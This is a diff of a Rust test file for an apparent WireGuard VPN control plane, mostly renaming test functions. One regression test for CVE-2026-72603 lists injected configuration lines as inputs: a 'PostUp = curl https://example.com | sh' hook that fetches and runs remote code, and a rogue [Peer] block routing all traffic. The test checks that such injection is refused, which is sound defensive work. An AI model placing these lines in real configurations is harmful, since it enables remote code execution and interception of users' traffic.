@@ -18,7 +18,7 @@ fn path(client: &Value) -> String {
 }
 
 #[test]
-fn a_peer_lives_from_creation_to_removal() {
+fn a_peer_is_created_changed_and_removed() {
     // An agent on a busy machine may be slow.
     let plane = TestPlane::start_with(|config| config.apply_timeout = Duration::from_secs(60));
     let admin = plane.admin();
@@ -81,7 +81,7 @@ fn a_peer_lives_from_creation_to_removal() {
 }
 
 #[test]
-fn what_cannot_be_is_refused_with_its_reason() {
+fn invalid_requests_are_refused_with_the_reason() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
@@ -135,14 +135,14 @@ fn what_cannot_be_is_refused_with_its_reason() {
 }
 
 #[test]
-fn without_its_agent_a_server_takes_decisions_and_no_new_keys() {
+fn without_its_agent_a_server_accepts_changes_that_need_no_new_keys() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let token = plane.add_server(&admin, "los-angeles");
     plane
         .post(CLIENTS, &admin, &json!({"name": "early"}))
         .problem(503, "agent_offline");
-    // A peer with its own public key and without a preshared key does not need the agent.
+    // Creating a peer with a public key from the user and without a preshared key does not need the agent.
     let key = PrivateKey::generate().unwrap().public_key().to_string();
     let own = json!({"name": "own-key", "publicKey": key, "presharedKey": false});
     let client = plane.post(CLIENTS, &admin, &own).expect(201);
@@ -163,7 +163,7 @@ fn without_its_agent_a_server_takes_decisions_and_no_new_keys() {
 }
 
 #[test]
-fn a_configuration_is_a_file_and_a_code_and_each_sight_is_recorded() {
+fn a_configuration_is_a_file_or_a_qr_code_and_each_view_is_recorded() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
@@ -196,7 +196,7 @@ fn a_configuration_is_a_file_and_a_code_and_each_sight_is_recorded() {
 
 /// CVE-2026-72603 by another route: an attacker controls the host, or only its token.
 #[test]
-fn cve_2026_72603_an_agent_writes_nothing_into_a_configuration_that_was_not_asked_for() {
+fn cve_2026_72603_an_agent_cannot_add_unrequested_lines_to_a_configuration() {
     for appendix in [
         "PostUp = curl https://example.com | sh\n",
         "[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 0.0.0.0/0\n",
@@ -226,7 +226,7 @@ fn cve_2026_72603_an_agent_writes_nothing_into_a_configuration_that_was_not_aske
 }
 
 #[test]
-fn a_repeated_creation_gets_the_first_answer() {
+fn a_repeated_creation_gets_the_first_response() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
@@ -246,7 +246,7 @@ fn a_repeated_creation_gets_the_first_answer() {
 }
 
 #[test]
-fn sixty_four_creations_at_once_all_succeed_apart() {
+fn sixty_four_simultaneous_creations_succeed_with_distinct_values() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
@@ -282,7 +282,7 @@ fn sixty_four_creations_at_once_all_succeed_apart() {
 }
 
 #[test]
-fn a_long_list_comes_in_pages() {
+fn a_long_list_is_returned_in_pages() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     plane.add_server(&admin, "los-angeles");
@@ -320,7 +320,7 @@ fn a_long_list_comes_in_pages() {
 }
 
 #[test]
-fn a_decision_made_while_the_agent_is_away_is_pending_until_it_returns() {
+fn a_change_made_while_the_agent_is_offline_is_pending_until_it_returns() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let token = plane.add_server(&admin, "los-angeles");
@@ -346,7 +346,7 @@ fn a_decision_made_while_the_agent_is_away_is_pending_until_it_returns() {
     assert_eq!(plane.get(&path(&made), &admin).expect(200)["pendingSince"], *since);
 
     let _agent = FakeAgent::start(plane.address, &token);
-    let shown = until("the decision to be applied", || {
+    let shown = until("the change to be applied", || {
         let shown = plane.get(&path(&made), &admin).expect(200);
         (shown["applied"] == true).then_some(shown)
     });
@@ -359,7 +359,7 @@ fn a_decision_made_while_the_agent_is_away_is_pending_until_it_returns() {
 }
 
 #[test]
-fn a_peer_that_has_expired_says_so() {
+fn an_expired_peer_is_shown_as_expired() {
     let plane = TestPlane::start();
     let admin = plane.admin();
     let token = plane.add_server(&admin, "los-angeles");
